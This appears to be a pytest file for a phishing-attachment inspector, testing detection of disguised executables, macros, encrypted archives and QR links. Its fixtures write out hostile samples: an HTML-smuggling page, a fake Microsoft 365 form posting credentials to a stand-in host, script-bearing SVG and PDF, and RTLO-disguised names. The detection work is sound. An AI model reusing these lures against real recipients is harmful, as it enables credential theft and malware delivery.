"""Attachments typed from their bytes and judged, QR codes decoded and judged as links, the verdict's reasons.

Every file is built here with a maintained writer (pypdf, segno, Pillow, zipfile, email) or taken from public
test data with its licence (tests/fixtures/attachments/SOURCE.md); nothing is opened, run or rendered.
"""

from __future__ import annotations

import hashlib
import io
import struct
import subprocess
import sys
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path

import pytest
import segno
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link as PdfLink

from inspector.analyze import analyze
from inspector.content import attachments as attachments_module
from inspector.content.attachments import inspect_attachments, password_in
from inspector.content.filetypes import detect
from inspector.content.judge import judge
from inspector.content.stage import _context
from inspector.ingest import load_bytes
from inspector.ingest.message import Attachment
from inspector.model.content import AttachedFile
from inspector.model.report import Level, Report
from inspector.settings import AnalysisSettings

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "attachments"
MACRO_SHA256 = "075069f5d309eeb2b2e65387b6417fd75c7bf8de56e401468146688d82cfb40f"


# -- builders ------------------------------------------------------------------------------------------------


def pe_program() -> bytes:
    """A minimal PE image: MZ header whose e_lfanew points at a PE signature and a COFF header (an EXE)."""
    head = bytearray(b"MZ" + b"\0" * 0x3E)
    struct.pack_into("<I", head, 0x3C, 0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)  # i386, executable image
    return bytes(head) + b"PE\0\0" + coff + b"\0" * 256


def zip_of(files: dict[str, bytes], encrypt: tuple[str, ...] = ()) -> bytes:
    """A ZIP of `files`; the names in `encrypt` get the "encrypted" flag (bit 0) in their local and central
    headers, as a ZIP made with a password has (the standard library cannot write encrypted entries)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    data = bytearray(buf.getvalue())
    for name in encrypt:
        raw = name.encode()
        for sig, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
            pos = data.find(sig)
            while pos != -1:
                if data[pos + name_at : pos + name_at + len(raw)] == raw:
                    data[pos + flag_at] |= 0x01
                pos = data.find(sig, pos + 4)
    return bytes(data)


def qr_png(text: str, scale: int = 6) -> bytes:
    buf = io.BytesIO()
    segno.make(text, error="m").save(buf, kind="png", scale=scale, border=4)
    return buf.getvalue()


def pdf_with(js: str | None = None, uri: str | None = None, image: bytes | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if js is not None:
        writer.add_open_action(JavaScript(js))
    if uri is not None:
        writer.add_annotation(0, PdfLink(rect=(50, 50, 300, 100), url=uri))
    if image is not None:
        _add_image(writer, image)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _add_image(writer: PdfWriter, png: bytes) -> None:
    """Place `png` on page 1 as an image XObject, the way a scanner or a lure kit embeds a QR code."""
    from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject

    img = Image.open(io.BytesIO(png)).convert("L")
    stream = DecodedStreamObject()
    stream.set_data(img.tobytes())
    stream.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(img.width),
            NameObject("/Height"): NumberObject(img.height),
            NameObject("/ColorSpace"): NameObject("/DeviceGray"),
            NameObject("/BitsPerComponent"): NumberObject(8),
        }
    )
    ref = writer._add_object(stream)
    page = writer.pages[0]
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): ref})}
    )
    content = DecodedStreamObject()
    content.set_data(f"q {img.width} 0 0 {img.height} 50 400 cm /Im0 Do Q".encode())
    page[NameObject("/Contents")] = ArrayObject([writer._add_object(content)])


SMUGGLING_PAGE = b"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Secure document</title></head>
<body onload="go()"><p>Your document is loading...</p>
<script>
function go() {
  var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0h";
  var raw = window.atob(b64);
  var bytes = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }
  var blob = new Blob([bytes], {type: "application/octet-stream"});
  if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "Invoice_8841.iso"); }
  else { var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob);
         a.download = "Invoice_8841.iso"; document.body.appendChild(a); a.click(); }
}
</script></body></html>"""

CREDENTIAL_PAGE = b"""<html><head><title>Microsoft 365</title></head><body>
<div class="login"><img src="data:image/png;base64,iVBORw0KGgo=" alt="Microsoft">
<form method="POST" action="https://m365-secure-auth.example.net/owa/collect.php">
<input type="email" name="login" value="victim@example.org"><input type="password" name="passwd">
<button type="submit">Sign in</button></form></div></body></html>"""


def att(name: str, data: bytes, ctype: str = "application/octet-stream") -> Attachment:
    return Attachment(name, ctype, len(data), hashlib.sha256(data).hexdigest(), data)


def judged(*files: Attachment, body: str = "", inline: tuple[Attachment, ...] = ()) -> tuple:  # type: ignore[type-arg]
    ctx = _context(AnalysisSettings(), frozenset(), frozenset(), frozenset())
    assert ctx is not None
    return inspect_attachments(files, inline, body, lambda url, text: judge(url, text, "link", ctx))


def kinds(row: AttachedFile) -> dict[str, str]:
    return {f.kind: f.severity for f in row.findings}


def message(*parts: tuple[str, str, bytes], body: str = "Please see the attached document.") -> bytes:
    msg = EmailMessage()
    msg["From"] = "Billing <billing@example.com>"
    msg["To"] = "user@example.org"
    msg["Subject"] = "Invoice"
    msg["Date"] = "Mon, 01 Sep 2025 10:00:00 +0000"
    msg["Message-ID"] = "<a1@example.com>"
    msg.set_content(body)
    for name, ctype, data in parts:
        maintype, subtype = ctype.split("/", 1)
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def report_of(data: bytes) -> Report:
    return analyze(load_bytes(data))


# -- type from content ---------------------------------------------------------------------------------------


def test_type_comes_from_the_bytes_not_the_name_or_the_declared_type() -> None:
    (row,), _ = judged(att("invoice.pdf", pe_program(), "application/pdf"))
    assert row.declared_type == "application/pdf" and row.content_type == "application/pdf"
    assert row.detected_type == "application/x-dosexec"
    assert kinds(row)["executable"] == "high"
    assert "though its name says a PDF" in next(f.explanation for f in row.findings if f.kind == "executable")
    assert kinds(row)["type-mismatch"] == "medium"


@pytest.mark.parametrize(
    ("data", "mime"),
    [
        (b"\x7fELF\x02\x01\x01" + b"\0" * 60, "application/x-executable"),
        (b"\xcf\xfa\xed\xfe" + b"\0" * 60, "application/x-mach-binary"),
        (bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60, "application/x-ms-shortcut"),
        (b"[InternetShortcut]\r\nURL=https://paypa1.com/x\r\n", "application/x-mswinurl"),
        (b"\0" * 0x8001 + b"CD001" + b"\0" * 100, "application/x-iso9660-image"),
        (b"vhdxfile" + b"\0" * 100, "application/x-vhdx"),
        (b"#@~^XQAAAA==vbscript", "application/x-encoded-script"),
        (b'<html><head><HTA:APPLICATION ID="x"></head></html>', "application/hta"),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "image/svg+xml",
        ),
        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd"', "application/x-wsh-script"),
        (b"%PDF-1.7\n%\xe2\xe3\n", "application/pdf"),
        (b"Rar!\x1a\x07\x01\x00" + b"\0" * 30, "application/vnd.rar"),
        (b"7z\xbc\xaf\x27\x1c" + b"\0" * 30, "application/x-7z-compressed"),
    ],
)
def test_magic_numbers(data: bytes, mime: str) -> None:
    found = detect(data)
    assert found is not None and found.mime == mime


def test_dangerous_kinds_are_named_with_what_opening_them_does() -> None:
    lnk = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 200
    iso = b"\0" * 0x8001 + b"CD001" + b"\0" * 2048
    rows, _ = judged(
        att("Scan_0041.lnk", lnk),
        att("Invoice.iso", iso),
        att("update.js", b"var sh = new ActiveXObject('WScript.Shell'); sh.Run('calc');"),
        att("run.bat", b"@echo off\r\nstart calc\r\n"),
    )
    assert kinds(rows[0])["shortcut"] == "high"
    assert kinds(rows[1])["disk-image"] == "high"
    assert "escape the warning" in rows[1].findings[0].explanation
    assert kinds(rows[2])["script"] == "high" and kinds(rows[3])["script"] == "high"


def test_harmless_files_have_no_warning() -> None:
    ics = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n"
    jpeg = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 30, 30)).save(jpeg, "JPEG")
    rows, qr = judged(
        att("invite.ics", ics, "text/calendar"),
        att("photo.jpg", jpeg.getvalue(), "image/jpeg"),
        att("statement.pdf", pdf_with(), "application/pdf"),
        att("notes.txt", b"Meeting at ten.\n", "text/plain"),
        att("report.zip", zip_of({"report.pdf": pdf_with(), "data.csv": b"a,b\n1,2\n"}), "application/zip"),
    )
    assert [r.worst for r in rows if r.part == ""] == [None, None, None, None, None]
    assert not qr
    assert rows[4].members == ("report.pdf", "data.csv")


# -- names ---------------------------------------------------------------------------------------------------


def test_double_extension_and_rtlo_name() -> None:
    rtlo = "Invoice_2025\u202efdp.exe"
    rows, _ = judged(att("Invoice.pdf.exe", pe_program()), att(rtlo, pe_program()))
    assert kinds(rows[0])["double-extension"] == "high"
    explanation = next(f.explanation for f in rows[0].findings if f.kind == "executable")
    assert explanation.startswith("The attachment Invoice.pdf.exe is a Windows program named to look like a PDF")
    hidden = next(f for f in rows[1].findings if f.kind == "hidden-characters")
    assert "RIGHT-TO-LEFT OVERRIDE" in hidden.explanation
    assert "shows as 'Invoice_2025exe.pdf'" in hidden.explanation
    assert "\u202e" not in hidden.explanation  # written visibly, never as the live character
    assert rows[1].name_hides_characters


def test_rtlo_attachment_through_the_whole_analysis() -> None:
    report = report_of(message(("Payment_copy\u202efdp.exe", "application/octet-stream", pe_program())))
    (row,) = report.content.attachments
    assert row.detected_type == "application/x-dosexec"
    assert report.verdict.level is Level.DANGEROUS
    rules = {f.rule for f in report.verdict.findings}
    assert "dangerous-attachments" in rules
    assert any("is a Windows program" in r for r in report.verdict.reasons)


# -- HTML and SVG --------------------------------------------------------------------------------------------


def test_html_smuggling_page() -> None:
    (row,), _ = judged(att("Invoice_8841.html", SMUGGLING_PAGE, "text/html"))
    assert row.detected_type == "text/html"
    smuggling = next(f for f in row.findings if f.kind == "html-smuggling")
    assert smuggling.severity == "high"
    assert "atob" in smuggling.explanation and "msSaveOrOpenBlob" in smuggling.explanation


def test_credential_form_posting_elsewhere() -> None:
    (row,), _ = judged(att("Office365_Login.htm", CREDENTIAL_PAGE, "text/html"))
    form = next(f for f in row.findings if f.kind == "html-form")
    assert form.severity == "high" and "m365-secure-auth.example.net" in form.explanation


def test_plain_html_receipt_is_low_and_not_a_verdict_reason() -> None:
    page = (
        b"<html><body><h1>Receipt</h1><p>Total: 12.00 EUR</p><a href='https://shop.example.com'>Shop</a></body></html>"
    )
    report = report_of(message(("receipt.html", "text/html", page)))
    (row,) = report.content.attachments
    assert kinds(row) == {"html-attachment": "low"}
    assert "dangerous-attachments" not in {f.rule for f in report.verdict.findings}


def test_svg_with_script() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://evil.example/"</script></svg>'
    (row,), _ = judged(att("voicemail.svg", svg, "image/svg+xml"))
    assert kinds(row)["svg-script"] == "high"


# -- Office macros -------------------------------------------------------------------------------------------


def test_macro_document_from_public_test_data() -> None:
    data = (FIXTURES / "oleform-PR314.docm").read_bytes()
    assert hashlib.sha256(data).hexdigest() == MACRO_SHA256
    (row,), _ = judged(att("Remittance.docm", data))
    assert row.detected_type == "application/vnd.ms-word.document.macroEnabled.12"
    macro = next(f for f in row.findings if f.kind == "macro-autoexec")
    assert macro.severity == "high" and "Frame1_Click" in macro.explanation
    # The GPL-licensed P-code disassembler that oletools can call is never imported.
    assert "pcodedmp" not in sys.modules


def test_office_document_without_macros_and_macro_doc_inside_a_zip() -> None:
    plain = zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    macro = (FIXTURES / "oleform-PR314.docm").read_bytes()
    rows, _ = judged(att("letter.docx", plain), att("docs.zip", zip_of({"Remittance.docm": macro})))
    assert rows[0].worst is None
    archive, inner = rows[1], rows[2]
    assert inner.part == "docs.zip" and kinds(inner)["macro-autoexec"] == "high"
    assert kinds(archive)["archive-dangerous"] == "high"


# -- PDF ----------------------------------------------------------------------------------------------------


def test_pdf_with_javascript_and_a_lookalike_link() -> None:
    data = pdf_with(js="app.alert('Update required'); this.exportDataObject({cName: 'a', nLaunch: 2});",
                    uri="https://paypa1.com/signin")  # fmt: skip
    (row,), _ = judged(att("Statement.pdf", data, "application/pdf"))
    assert row.detected_type == "application/pdf"
    assert kinds(row)["pdf-javascript"] == "high"
    assert "as soon as the document opens" in next(f.explanation for f in row.findings if f.kind == "pdf-javascript")
    link = next(f for f in row.findings if f.kind == "pdf-link")
    assert link.severity == "high" and "paypa1[.]com" in link.explanation


def test_pdf_with_ordinary_links_is_info_only() -> None:
    (row,), _ = judged(att("Terms.pdf", pdf_with(uri="https://www.example.com/terms"), "application/pdf"))
    assert row.worst in ("info", "low")


def test_damaged_pdf_still_scanned_for_javascript() -> None:
    data = pdf_with(js="app.alert(1)")
    (row,), _ = judged(att("Statement.pdf", data[: len(data) // 2], "application/pdf"))
    assert "malformed" in kinds(row)


# -- archives ------------------------------------------------------------------------------------------------


def test_zip_with_an_executable_listed_not_extracted() -> None:
    data = zip_of({"Invoice_2025.pdf.exe": pe_program(), "readme.txt": b"Open the invoice."})
    (row,), _ = judged(att("Invoice_2025.zip", data, "application/zip"))
    assert row.members == ("Invoice_2025.pdf.exe", "readme.txt")
    finding = next(f for f in row.findings if f.kind == "archive-dangerous")
    assert finding.severity == "high" and "Invoice_2025.pdf.exe (a Windows program)" in finding.explanation


def test_encrypted_zip_with_the_password_in_the_body() -> None:
    data = zip_of({"Invoice.js": b"var x;"}, encrypt=("Invoice.js",))
    (locked,), _ = judged(att("Invoice.zip", data), body="Hello, the invoice is attached.")
    assert kinds(locked)["encrypted-archive"] == "medium" and "password-in-body" not in kinds(locked)
    (given_away,), _ = judged(att("Invoice.zip", data), body="Attached is the invoice.\nPassword: 8841\nRegards")
    assert kinds(given_away)["password-in-body"] == "high"
    # Names of an encrypted ZIP are still readable: the script inside is named.
    assert kinds(given_away)["archive-dangerous"] == "high"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("The password is 1234", True),
        ("Passwort: Rechnung2025", True),
        ("Das Kennwort lautet 7781", True),
        ("mot de passe : 4512", True),
        ("Reset your password on our website", False),
        ("We will never ask for your password.", False),
    ],
)
def test_password_phrases(text: str, expected: bool) -> None:
    assert password_in(text) is expected


def test_nested_archives_stop_at_the_depth_bound() -> None:
    data = zip_of({"payload.exe": pe_program()})
    for level in range(6):
        data = zip_of({f"level{level}.zip": data})
    rows, _ = judged(att("nested.zip", data))
    assert 1 < len(rows) <= 1 + 3  # the archive and at most MAX_DEPTH nested levels read
    assert rows[0].part == "" and rows[1].part == "nested.zip"


# -- QR codes -----------------------------------------------------------------------------------------------


def test_qr_code_png_is_decoded_and_judged_as_a_link() -> None:
    _rows, qr = judged(att("scan_me.png", qr_png("https://paypa1.com/verify-account"), "image/png"))
    (code,) = qr
    assert code.where == "attachment scan_me.png"
    assert code.url_defanged == "hxxps://paypa1[.]com/verify-account" and code.domain == "paypa1.com"
    assert {f.kind for f in code.findings} >= {"lookalike", "qr-code"}


def test_qr_code_in_an_inline_image_and_in_a_pdf() -> None:
    png = qr_png("https://paypa1.com/mfa")
    _, inline = judged(inline=(att("image001.png@01DB", png, "image/png"),))
    assert [c.where for c in inline] == ["inline image image001.png@01DB"]
    _, in_pdf = judged(att("MFA_setup.pdf", pdf_with(image=png), "application/pdf"))
    assert [c.where for c in in_pdf] == ["MFA_setup.pdf, page 1"]
    assert in_pdf[0].domain == "paypa1.com"


def test_quishing_is_a_verdict_reason() -> None:
    report = report_of(message(("scan.png", "image/png", qr_png("https://paypa1.com/login"))))
    assert report.content.qr and report.content.qr[0].domain == "paypa1.com"
    assert "quishing" in {f.rule for f in report.verdict.findings}
    assert any("QR code" in r and "paypa1.com" in r for r in report.verdict.reasons)


def test_ordinary_qr_code_is_not_a_reason() -> None:
    report = report_of(message(("ticket.png", "image/png", qr_png("TICKET-2025-000123"))))
    (code,) = report.content.qr
    assert code.url_defanged == "TICKET-2025-000123" and not code.findings
    assert "quishing" not in {f.rule for f in report.verdict.findings}


def test_image_bounds_refuse_a_decompression_bomb_unread() -> None:
    buf = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(buf, "PNG")  # 144 Mpx declared, a few kB on disk
    (row,), qr = judged(att("bomb.png", buf.getvalue(), "image/png"))
    assert not qr and "pixels" in next(f.explanation for f in row.findings if f.kind == "malformed")


# -- bounds and hostile input -------------------------------------------------------------------------------


def test_file_count_and_size_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attachments_module, "MAX_FILES", 3)
    monkeypatch.setattr(attachments_module, "MAX_FILE_BYTES", 1000)
    rows, _ = judged(*(att(f"f{i}.exe", pe_program()) for i in range(5)), att("big.bin", b"\0" * 5000))
    assert len(rows) == 3
    rows, _ = judged(att("big.exe", pe_program() + b"\0" * 5000))
    assert rows[0].detected_type == "application/x-dosexec" and "not-examined" in kinds(rows[0])
    assert rows[0].size == len(pe_program()) + 5000  # hashed and sized in full


MAGICS = [b"", b"MZ", b"%PDF-1.7\n", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"Rar!\x1a\x07\x01\x00",
          b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF89a", b"<html><script>", b"<svg ", b"{\\rtf1"]  # fmt: skip


@pytest.mark.parametrize("cut", [0.1, 0.5, 0.9])
def test_truncated_real_files_are_findings_never_crashes(cut: float) -> None:
    files = {
        "a.pdf": pdf_with(js="app.alert(1)", uri="https://example.com"),
        "b.docm": (FIXTURES / "oleform-PR314.docm").read_bytes(),
        "c.zip": zip_of({"x.exe": pe_program(), "y.txt": b"y"}),
        "d.png": qr_png("https://example.com/"),
        "e.html": SMUGGLING_PAGE,
    }
    rows, _ = judged(*(att(name, data[: int(len(data) * cut)]) for name, data in files.items()))
    assert len(rows) >= len(files)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(MAGICS), st.binary(max_size=2048))
def test_garbage_behind_a_magic_number_never_raises(magic: bytes, tail: bytes) -> None:
    rows, _ = judged(att("file.bin", magic + tail))
    assert rows[0].sha256 == hashlib.sha256(magic + tail).hexdigest()


def test_report_keeps_the_old_attachment_keys_and_validates() -> None:
    import json
    from importlib import resources

    import jsonschema

    from inspector.report.to_json import report_to_dict

    report = report_of(message(("Invoice.pdf.exe", "application/octet-stream", pe_program())))
    doc = report_to_dict(report)
    schema = json.loads(resources.files("inspector.report").joinpath("schema/report.schema.json").read_text())
    jsonschema.validate(doc, schema)
    (row,) = doc["content"]["attachments"]
    assert row["content_type"] == "application/octet-stream" and row["detected_type"] == "application/x-dosexec"
    assert row["sha256"] == hashlib.sha256(pe_program()).hexdigest()


def test_ticket_and_html_export_carry_the_indicators() -> None:
    from inspector.report.to_html import report_to_html
    from inspector.report.wording import ticket_summary

    report = report_of(
        message(
            ("Invoice.pdf.exe", "application/octet-stream", pe_program()),
            ("scan.png", "image/png", qr_png("https://paypa1.com/login")),
        )
    )
    ticket = ticket_summary(report).splitlines()
    sha = hashlib.sha256(pe_program()).hexdigest()
    assert any(
        line.startswith("Attachment: Invoice.pdf.exe (application/x-dosexec,") and f"sha256={sha}" in line
        for line in ticket
    )
    assert "QR code: attachment scan.png: hxxps://paypa1[.]com/login — high: lookalike" in ticket
    page = report_to_html(report)
    assert "hxxps://paypa1[.]com/login" in page and "https://paypa1.com" not in page
    assert "named to look like a PDF" in page and sha in page


# -- RAR (rarfile's own test archives, ISC: tests/fixtures/attachments/SOURCE.md) ---------------------------


def _vint(b: bytes | bytearray, i: int) -> tuple[int, int]:
    value = shift = 0
    while True:
        c = b[i]
        i += 1
        value |= (c & 0x7F) << shift
        shift += 7
        if not c & 0x80:
            return value, i


def rar5_renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    """A RAR5 archive with one member renamed in its header (same length), the header's CRC32 recomputed."""
    b = bytearray(data)
    pos = 8
    while pos < len(b):
        size, start = _vint(b, pos + 4)
        end = start + size
        kind, i = _vint(b, start)
        flags, i = _vint(b, i)
        data_size = 0
        if flags & 1:
            _extra, i = _vint(b, i)
        if flags & 2:
            data_size, i = _vint(b, i)
        at = b.find(old, start, end)
        if at != -1:
            b[at : at + len(old)] = new
            b[pos : pos + 4] = zlib.crc32(bytes(b[pos + 4 : end])).to_bytes(4, "little")
        if kind == 5:
            break
        pos = end + data_size
    return bytes(b)


def rar(name: str) -> bytes:
    return (FIXTURES / "rar" / name).read_bytes()


def test_rar_listed_with_its_program_named() -> None:
    data = rar5_renamed(rar("rar5-solid.rar"), b"stest1.txt", b"stest1.exe")
    (row,), _ = judged(att("Invoice.rar", data, "application/x-rar"))
    assert row.detected_type == "application/vnd.rar" and row.members == ("stest1.exe", "stest2.txt")
    assert kinds(row)["archive-dangerous"] == "high"
    (plain,), _ = judged(att("docs.rar", rar("rar5-solid.rar")))
    assert plain.worst is None and plain.members == ("stest1.txt", "stest2.txt")


def test_encrypted_rar_and_hidden_names() -> None:
    (locked,), _ = judged(att("a.rar", rar("rar5-psw.rar")), body="Kennwort: 2025")
    assert kinds(locked)["password-in-body"] == "high" and locked.members == ("stest1.txt", "stest2.txt")
    (hidden,), _ = judged(att("b.rar", rar("rar5-hpsw.rar")))
    assert kinds(hidden)["encrypted-archive"] == "medium" and hidden.members == ()


def test_rar_never_starts_an_unpacking_program(monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[object] = []
    monkeypatch.setattr(subprocess, "Popen", lambda *a, **k: started.append(a) or (_ for _ in ()).throw(OSError()))
    (row,), _ = judged(att("c.rar", rar("rar3-comment-psw.rar")))
    assert started == []
    assert "never done here" in next(f.explanation for f in row.findings if f.kind == "not-examined")


def test_attached_eml_file_is_read_and_its_program_named_once() -> None:
    inner = message(("Invoice.pdf.exe", "application/octet-stream", pe_program()))
    report = report_of(message(("forward.eml", "application/octet-stream", inner)))
    outer, nested = report.content.attachments
    assert outer.detected_type == "message/rfc822" and nested.part == "forward.eml"
    assert kinds(outer)["attached-message"] == "high" and kinds(nested)["executable"] == "high"
    reasons = [f for f in report.verdict.findings if f.rule == "dangerous-attachments"]
    assert len(reasons) == 1 and "forward.eml" in reasons[0].text


def test_zip_with_a_macro_document_is_one_reason_worded_without_running() -> None:
    macro = (FIXTURES / "oleform-PR314.docm").read_bytes()
    report = report_of(message(("docs.zip", "application/zip", zip_of({"Remittance.docm": macro}))))
    reasons = [f.text for f in report.verdict.findings if f.rule == "dangerous-attachments"]
    assert reasons == ["The archive docs.zip holds Remittance.docm (macros that start by themselves)."]


def test_real_phish_html_attachment_with_a_password_form() -> None:
    """phishing_pot sample-1261 (read by path, CC BY-NC, never copied): 'PO45638 - PO76483.Xls.htm', a login
    page posting to free hosting, named to look like an Excel sheet."""
    from inspector.ingest import load_file
    from tests.support.corpora import PHISHING

    report = analyze(load_file(PHISHING / "sample-1261.eml"))
    (row,) = report.content.attachments
    assert row.detected_type == "text/html" and kinds(row)["html-form"] == "high"
    assert kinds(row)["double-extension"] == "high"
    (reason,) = [f.text for f in report.verdict.findings if f.rule == "dangerous-attachments"]
    assert "password form that sends what is typed to glottogonic-depende.000webhostapp.com" in reason
    assert report.verdict.level is Level.DANGEROUS
